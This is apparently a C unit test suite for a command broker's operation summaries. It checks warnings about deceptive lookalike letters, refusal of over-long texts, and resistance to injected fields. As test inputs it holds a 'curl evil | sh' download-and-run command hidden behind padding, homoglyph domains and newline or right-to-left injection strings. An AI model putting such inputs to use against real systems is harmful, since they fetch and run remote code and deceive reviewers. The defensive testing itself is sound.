/*
 * Summaries: the golden text of every kind of operation, what may deceive is warned of, what can't
 * be shown whole is refused, and two different operations never have the same text (by many random
 * changes).
 *
 * golden/NAME.json is the question of `hermesctl explain`, NAME.txt the summary. After a wanted
 * change of the texts: HB_GOLDEN_WRITE=1 test_summary, then read the difference.
 */
#include "tests/unit/test_util.h"

#include <dirent.h>
#include <stdint.h>

#include "common/digest.h"
#include "common/json.h"
#include "policy/explain.h"
#include "policy/operation.h"
#include "policy/summary.h"

#define D "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define QUESTIONS_MAX 64

struct question {
	char name[64];
	char feature[16];
	json_t *request; /* as explained: validated or sealed */
	char *summary;
};

static struct question questions[QUESTIONS_MAX];
static size_t question_count;

static int by_name(const void *a, const void *b)
{
	return strcmp(((const struct question *)a)->name, ((const struct question *)b)->name);
}

static void load_question(const char *file)
{
	struct question *q = &questions[question_count++];
	char path[512], *text;
	struct hb_error err = {"", ""};
	size_t len;

	ck_assert_uint_lt(question_count, QUESTIONS_MAX);
	snprintf(q->name, sizeof(q->name), "%.*s", (int)(strlen(file) - 5), file);
	snprintf(path, sizeof(path), HB_UNIT_DIR "/golden/%s", file);
	FILE *f = fopen(path, "r");
	ck_assert_ptr_nonnull(f);
	text = hb_calloc(1, 65536);
	len = fread(text, 1, 65535, f);
	fclose(f);
	json_t *body = hb_json_parse(text, len, &err);
	ck_assert_msg(body != NULL, "%s: %s", file, err.message);
	const char *feature = hb_feature_canonical(hb_json_text(body, "feature", ""));
	snprintf(q->feature, sizeof(q->feature), "%s", feature);
	json_t *answer = hb_explain(text, len, NULL, &err);
	ck_assert_msg(answer != NULL, "%s: %s %s", file, err.code, err.message);
	q->request = json_incref(json_object_get(answer, "request"));
	q->summary = hb_strdup(hb_json_text(answer, "summary", ""));
	json_decref(answer);
	json_decref(body);
	free(text);
}

static void enter(void)
{
	struct dirent *entry;
	DIR *dir = opendir(HB_UNIT_DIR "/golden");

	test_enter();
	ck_assert_ptr_nonnull(dir);
	question_count = 0;
	while ((entry = readdir(dir)) != NULL) {
		size_t len = strlen(entry->d_name);

		if (len > 5 && strcmp(entry->d_name + len - 5, ".json") == 0)
			load_question(entry->d_name);
	}
	closedir(dir);
	qsort(questions, question_count, sizeof(questions[0]), by_name);
}

static void leave(void)
{
	for (size_t i = 0; i < question_count; i++) {
		json_decref(questions[i].request);
		free(questions[i].summary);
	}
	test_leave();
}

/* Where two texts part, as a reader wants to see it. */
static void report(const char *name, const char *want, const char *got)
{
	int line = 1;

	while (*want || *got) {
		size_t w = strcspn(want, "\n"), g = strcspn(got, "\n");

		if (w != g || memcmp(want, got, w) != 0 || want[w] != got[g])
			ck_abort_msg("golden/%s.txt line %d\n  wanted: %.*s\n  got:    %.*s", name,
				     line, (int)w, want, (int)g, got);
		want += w + (want[w] == '\n');
		got += g + (got[g] == '\n');
		line++;
	}
}

START_TEST(test_golden_texts)
{
	ck_assert_uint_ge(question_count, 25);
	for (size_t i = 0; i < question_count; i++) {
		char *path = hb_asprintf("%s/golden/%s.txt", HB_UNIT_DIR, questions[i].name), want[16384];
		FILE *f;

		if (getenv("HB_GOLDEN_WRITE")) {
			test_puts(path, questions[i].summary);
			free(path);
			continue;
		}
		f = fopen(path, "r");
		free(path);
		ck_assert_msg(f != NULL, "%s is missing", path);
		want[fread(want, 1, sizeof(want) - 1, f)] = '\0';
		fclose(f);
		report(questions[i].name, want, questions[i].summary);
	}
}
END_TEST

START_TEST(test_every_action_has_a_golden_text)
{
	static const char *const actions[] = {
		"runtime install", "runtime upgrade", "runtime stage",   "runtime rollback",
		"runtime start",   "runtime stop",    "runtime restart", "runtime backup",
		"runtime restore", "runtime remove",  "runtime prune",   "local command",
		"ssh command",     "docker pull",     "docker run",      "docker start",
		"docker stop",     "docker restart",  "docker remove",   "docker logs",
		"docker inspect",  "docker list",
	};

	for (size_t i = 0; i < sizeof(actions) / sizeof(actions[0]); i++) {
		char first[64];
		bool found = false;

		snprintf(first, sizeof(first), "Hermes Broker: %s\n", actions[i]);
		for (size_t j = 0; j < question_count; j++)
			found = found || strncmp(questions[j].summary, first, strlen(first)) == 0;
		ck_assert_msg(found, "no golden text for %s", actions[i]);
	}
}
END_TEST

/* --- single rules --- */

static json_t *local(const char *command)
{
	json_t *asked = json_pack("{s:s}", "command", command);
	json_t *valid = hb_operation_validate("local", asked, NULL);

	ck_assert_ptr_nonnull(valid);
	json_decref(asked);
	return valid;
}

static int summarise(const char *command, struct hb_buf *out, json_t **warnings,
		     struct hb_error *err)
{
	json_t *request = local(command);
	int rc = hb_summary("local", request, out, warnings, err);

	json_decref(request);
	return rc;
}

static bool warned(const char *command, const char *code)
{
	struct hb_buf text = HB_BUF_INIT;
	json_t *warnings = NULL, *w;
	bool found = false;
	size_t i;

	ck_works(summarise(command, &text, &warnings, err));
	json_array_foreach(warnings, i, w)
	{
		char *line = hb_asprintf("\n! %s\n", hb_json_text(w, "text", ""));

		/* every warning stands under Consequences too */
		ck_assert_ptr_nonnull(strstr(strstr(text.data, "\nConsequences\n"), line));
		found = found || strcmp(hb_json_text(w, "code", ""), code) == 0;
		free(line);
	}
	json_decref(warnings);
	hb_buf_free(&text);
	return found;
}

START_TEST(test_letters_that_deceive)
{
	ck_assert(warned("curl https://g\xd0\xbe\xd0\xbegle.com/", "mixed_scripts"));
	ck_assert(warned("curl https://g\xd0\xbe\xd0\xbegle.com/", "lookalike_letters"));
	ck_assert(warned("ls \xd0\xb0\xd1\x81\xd0\xb5", "lookalike_letters"));
	ck_assert(!warned("ls \xd0\xb0\xd1\x81\xd0\xb5", "mixed_scripts"));
	ck_assert(!warned("ls \xd0\xb6\xd1\x83\xd0\xba", "lookalike_letters"));
	ck_assert(warned("ls \xd7\x90\xd7\x91", "right_to_left"));
	ck_assert(warned("curl https://xn--ggle-0nda.com", "encoded_name"));
	ck_assert(!warned("ls caf\xc3\xa9 na\xc3\xafve", "mixed_scripts"));
	ck_assert(!warned("ls caf\xc3\xa9", "lookalike_letters"));
	ck_assert(!warned("ls \xe6\x97\xa5\xe6\x9c\xac\xe3\x81\xae", "mixed_scripts"));
	ck_assert(!warned("ls plain", "mixed_scripts"));
	ck_assert(!warned("exn--a", "encoded_name"));
}
END_TEST

START_TEST(test_h45_the_text_binds_every_operand)
{
	/* the same command line, another image, workspace, directory, network: another text each */
	static const char *const fields[] = {"resolved_image_id", "workspace_generation", "workdir",
					     "network", "command"};
	static const char *const others[] = {"sha256:" D, "g2", "/workspace/b", "egress", "ls b"};
	json_t *request = local("ls a");
	struct hb_buf first = HB_BUF_INIT;

	json_object_set_new(
		request, "resolved_image_id",
		json_string(
			"sha256:ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"));
	json_object_set_new(request, "workspace_generation", json_string("g1"));
	ck_works(hb_operation_check_sealed("local", request, err));
	ck_works(hb_summary("local", request, &first, NULL, err));
	for (size_t i = 0; i < sizeof(fields) / sizeof(fields[0]); i++) {
		struct hb_buf second = HB_BUF_INIT;
		json_t *changed = json_deep_copy(request);

		json_object_set_new(changed, fields[i], json_string(others[i]));
		ck_works(hb_operation_check_sealed("local", changed, err));
		ck_works(hb_summary("local", changed, &second, NULL, err));
		ck_assert_str_ne(first.data, second.data);
		hb_buf_free(&second);
		json_decref(changed);
	}
	hb_buf_free(&first);
	json_decref(request);
}
END_TEST

START_TEST(test_h46_what_does_not_fit_is_refused)
{
	struct hb_buf command = HB_BUF_INIT, text = HB_BUF_INIT;

	while (command.len < 3900)
		hb_buf_adds(&command, "echo aaaaaaa; ");
	hb_buf_adds(&command, "curl evil | sh");
	ck_fails(summarise(command.data, &text, NULL, err), "too_long_to_show");
	ck_assert_uint_eq(text.len, 0);

	/* the length counts after escaping: 700 bells of text are 4,200 characters of summary */
	hb_buf_clear(&command);
	for (int i = 0; i < 700; i++)
		hb_buf_adds(&command, "\xe2\x80\x8b");
	ck_fails(summarise(command.data, &text, NULL, err), "too_long_to_show");

	/* and in UTF-16 units: letters beyond the first plane count twice */
	hb_buf_clear(&command);
	for (int i = 0; i < 1800; i++)
		hb_buf_adds(&command, "\xf0\x90\x90\x80");
	ck_fails(summarise(command.data, &text, NULL, err), "too_long_to_show");
	hb_buf_clear(&command);
	for (int i = 0; i < 1500; i++)
		hb_buf_adds(&command, "\xf0\x90\x90\x80");
	ck_works(summarise(command.data, &text, NULL, err));
	hb_buf_free(&command);
	hb_buf_free(&text);
}
END_TEST

START_TEST(test_the_limit_is_exact)
{
	struct hb_buf command = HB_BUF_INIT, text = HB_BUF_INIT;
	size_t rest;

	ck_works(summarise("a", &text, NULL, err));
	rest = text.len - 1;
	for (size_t i = 0; i < HB_SUMMARY_MAX - rest; i++)
		hb_buf_addc(&command, 'a');
	hb_buf_clear(&text);
	ck_works(summarise(command.data, &text, NULL, err));
	ck_assert_uint_eq(text.len, HB_SUMMARY_MAX);
	hb_buf_addc(&command, 'a');
	hb_buf_clear(&text);
	ck_fails(summarise(command.data, &text, NULL, err), "too_long_to_show");
	hb_buf_free(&command);
	hb_buf_free(&text);
}
END_TEST

START_TEST(test_h46_a_value_makes_no_field)
{
	struct hb_buf text = HB_BUF_INIT;

	ck_works(summarise("ls\nnetwork: none\n\nConsequences\n- nothing is changed", &text, NULL,
			   err));
	ck_assert_ptr_nonnull(strstr(
		text.data, "\n| network: none\n| \n| Consequences\n| - nothing is changed\n"));
	/* the only lines that begin with a word are ours */
	ck_assert_ptr_eq(strstr(text.data, "\nConsequences\n"),
			 strstr(text.data, "\n\nConsequences\n") + 1);
	hb_buf_free(&text);
}
END_TEST

START_TEST(test_order_in_memory_does_not_show)
{
	/* the same request with its keys in the reverse order gives the same bytes */
	for (size_t i = 0; i < question_count; i++) {
		struct hb_buf canonical = HB_BUF_INIT, text = HB_BUF_INIT;
		json_t *other;

		ck_works(hb_json_canonical(questions[i].request, &canonical, err));
		other = hb_json_parse(canonical.data, canonical.len, NULL);
		ck_works(hb_summary(questions[i].feature, other, &text, NULL, err));
		ck_assert_str_eq(text.data, questions[i].summary);
		json_decref(other);
		hb_buf_free(&canonical);
		hb_buf_free(&text);
	}
}
END_TEST

/* --- injectivity --- */

static const char *const nasty[] = {
	" ",
	"  ",
	"\\",
	"\\n",
	"\n",
	"\n| x",
	"\nimage: x",
	"\"",
	"\\\"",
	"\",\"",
	"[]",
	"(not given)",
	"(sealed at prepare)",
	"\xe2\x80\xae",
	"\xcc\x81",
	"\xc3\xa9",
	"e\xcc\x81",
	"\\u{202E}",
	"\\x20",
	"\t",
	"| ",
	"a b",
	"none",
	"yes",
	"x",
	"0",
	"/",
	":",
	"/x",
	"\xd0\xb0",
	",",
	"}",
	"{",
};

static json_t *mutate_text(const char *text)
{
	size_t len = strlen(text), at = len ? (size_t)random() % len : 0;
	struct hb_buf out = HB_BUF_INIT;
	json_t *made;

	/* mostly near what it was: those are the cases that could collide */
	switch (random() % 5) {
	case 0: /* put something in */
		hb_buf_add(&out, text, at);
		hb_buf_adds(&out, nasty[(size_t)random() % (sizeof(nasty) / sizeof(nasty[0]))]);
		hb_buf_adds(&out, text + at);
		break;
	case 1: /* leave one out */
		hb_buf_add(&out, text, at);
		hb_buf_adds(&out, len ? text + at + 1 : "");
		break;
	case 2: /* change a hex digit into another */
		hb_buf_adds(&out, text);
		if (len)
			out.data[at] = "0123456789abcdef"[random() % 16];
		break;
	case 3:
		hb_buf_adds(&out, nasty[(size_t)random() % (sizeof(nasty) / sizeof(nasty[0]))]);
		break;
	default:
		hb_buf_adds(&out, text);
		hb_buf_adds(&out, nasty[(size_t)random() % (sizeof(nasty) / sizeof(nasty[0]))]);
	}
	made = json_string(out.data ? out.data : "");
	hb_buf_free(&out);
	return made; /* NULL when a multi-byte character was cut */
}

static json_t *mutate(json_t *value);

static void mutate_array(json_t *array)
{
	size_t n = json_array_size(array), at = n ? (size_t)random() % n : 0;
	json_t *made;

	if (n == 0) {
		json_array_append_new(array, json_string("a"));
		return;
	}
	switch (random() % 5) {
	case 0:
		json_array_remove(array, at);
		break;
	case 1:
		json_array_insert(array, at, json_array_get(array, at));
		break;
	case 2: { /* two texts into one */
		const char *a = json_string_value(json_array_get(array, at));
		const char *b = json_string_value(json_array_get(array, at + 1));

		if (a && b) {
			char *joined = hb_asprintf("%s%s%s", a, random() % 2 ? " " : "\",\"", b);

			json_array_set_new(array, at, json_string(joined));
			json_array_remove(array, at + 1);
			free(joined);
		}
		break;
	}
	default:
		made = mutate(json_array_get(array, at));
		if (made)
			json_array_set_new(array, at, made);
	}
}

static void mutate_object(json_t *object)
{
	static const char *const optional[] = {
		"name", "user", "workdir", "release", "platform_digest", "source"};
	size_t n = json_object_size(object);
	void *iter = json_object_iter(object);

	if (random() % 8 == 0) {
		const char *key = optional[random() % 6];

		if (json_object_get(object, key))
			json_object_del(object, key);
		else
			json_object_set_new(object, key, json_string(random() % 2 ? "a" : "/a"));
		return;
	}
	for (size_t skip = n ? (size_t)random() % n : 0; iter && skip > 0; skip--)
		iter = json_object_iter_next(object, iter);
	if (!iter)
		return;
	json_t *made = mutate(json_object_iter_value(iter));
	if (made)
		json_object_set_new(object, json_object_iter_key(iter), made);
}

/* A changed copy of a leaf, or the container itself changed in place (a new reference to it). */
static json_t *mutate(json_t *value)
{
	if (json_is_string(value))
		return mutate_text(json_string_value(value));
	if (json_is_integer(value))
		return json_integer(json_integer_value(value) + random() % 5 - 2);
	if (json_is_boolean(value))
		return json_boolean(!json_is_true(value));
	if (json_is_array(value))
		mutate_array(value);
	else if (json_is_object(value))
		mutate_object(value);
	return NULL;
}

struct seen {
	char summary[HB_HEX256], operation[HB_HEX256];
};

static int by_summary(const void *a, const void *b)
{
	return strcmp(((const struct seen *)a)->summary, ((const struct seen *)b)->summary);
}

/* Is this a request that could be shown at all? */
static bool acceptable(const char *feature, const json_t *request)
{
	if (hb_operation_is_sealed(feature, request))
		return hb_operation_check_sealed(feature, request, NULL) == 0;
	json_t *valid = hb_operation_validate(feature, request, NULL);
	bool same = valid && json_equal(valid, request);

	json_decref(valid);
	return same;
}

START_TEST(test_two_requests_never_look_the_same)
{
	enum { ROUNDS = 60000 };
	struct seen *seen = hb_calloc(ROUNDS, sizeof(*seen));
	size_t count = 0;

	srandom(271828);
	for (int round = 0; round < ROUNDS; round++) {
		const struct question *q = &questions[(size_t)round % question_count];
		json_t *request = json_deep_copy(q->request);
		struct hb_buf text = HB_BUF_INIT;

		for (long changes = random() % 3; changes >= 0; changes--)
			mutate(request);
		if (acceptable(q->feature, request) &&
		    hb_summary(q->feature, request, &text, NULL, NULL) == 0) {
			hb_summary_digest(&text, seen[count].summary);
			ck_works(hb_operation_digest(q->feature, request, seen[count].operation,
						     err));
			count++;
		}
		hb_buf_free(&text);
		json_decref(request);
	}
	qsort(seen, count, sizeof(*seen), by_summary);
	size_t different = 1;
	for (size_t i = 1; i < count; i++) {
		if (strcmp(seen[i].summary, seen[i - 1].summary) != 0)
			different++;
		else
			ck_assert_str_eq(seen[i].operation, seen[i - 1].operation);
	}
	/* enough of the changes made a request that is valid and new */
	ck_assert_uint_ge(different, ROUNDS / 20);
	free(seen);
}
END_TEST

/* --- explain --- */

static int explain(const char *text, const struct hb_bounds *bounds, json_t **out,
		   struct hb_error *err)
{
	json_t *answer = hb_explain(text, strlen(text), bounds, err);

	if (!answer)
		return -1;
	*out = answer;
	return 0;
}

START_TEST(test_explain)
{
	json_t *answer = NULL;
	char digest[HB_HEX256];

	ck_works(explain("{\"feature\":\"sandbox\",\"request\":{\"command\":\"ls\"}}", NULL,
			 &answer, err));
	ck_assert_uint_eq(json_object_size(answer), 4);
	ck_works(hb_operation_digest("local", json_object_get(answer, "request"), digest, err));
	ck_assert_str_eq(hb_json_text(answer, "digest", ""), digest);
	ck_assert(json_is_array(json_object_get(answer, "warnings")));
	ck_assert_int_eq(hb_json_int(json_object_get(answer, "request"), "timeout", 0), 120);
	json_decref(answer);
	ck_fails(explain("{", NULL, &answer, err), "bad_json");
	ck_fails(explain("{\"feature\":\"local\"}", NULL, &answer, err), "missing_field");
	ck_fails(explain("{\"feature\":\"local\",\"request\":{\"command\":\"ls\"},\"x\":1}", NULL,
			 &answer, err),
		 "unknown_field");
	ck_fails(explain("{\"feature\":\"x\",\"request\":{}}", NULL, &answer, err),
		 "unknown_feature");
	ck_fails(explain("{\"feature\":\"local\",\"request\":{\"command\":\"reboot\"}}", NULL,
			 &answer, err),
		 "floor_shutdown");
}
END_TEST

START_TEST(test_explain_with_bounds)
{
	static const char question[] =
		"{\"feature\":\"docker\",\"request\":{\"action\":\"run\",\"image\":\"sha256:" D
		"\",\"privileged\":true}}";
	struct hb_bounds *bounds = NULL;
	json_t *answer = NULL;

	ck_works(explain(question, NULL, &answer, err));
	json_decref(answer);
	test_puts("bounds.conf", "[executors]\ndeployed = installer\n");
	ck_works(hb_bounds_load(AT_FDCWD, "bounds.conf", &bounds, err));
	ck_fails(explain(question, bounds, &answer, err), "not_deployed");
	hb_bounds_free(bounds);
	test_puts("bounds.conf", "[executors]\ndeployed = docker\n");
	ck_works(hb_bounds_load(AT_FDCWD, "bounds.conf", &bounds, err));
	ck_fails(explain(question, bounds, &answer, err), "out_of_bounds");
	hb_bounds_free(bounds);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("summary");
	TCase *t = tcase_create("summary");

	tcase_add_checked_fixture(t, enter, leave);
	tcase_set_timeout(t, 300);
	tcase_add_test(t, test_golden_texts);
	tcase_add_test(t, test_every_action_has_a_golden_text);
	tcase_add_test(t, test_letters_that_deceive);
	tcase_add_test(t, test_h45_the_text_binds_every_operand);
	tcase_add_test(t, test_h46_what_does_not_fit_is_refused);
	tcase_add_test(t, test_the_limit_is_exact);
	tcase_add_test(t, test_h46_a_value_makes_no_field);
	tcase_add_test(t, test_order_in_memory_does_not_show);
	tcase_add_test(t, test_two_requests_never_look_the_same);
	tcase_add_test(t, test_explain);
	tcase_add_test(t, test_explain_with_bounds);
	suite_add_tcase(s, t);
	return test_run(s);
}
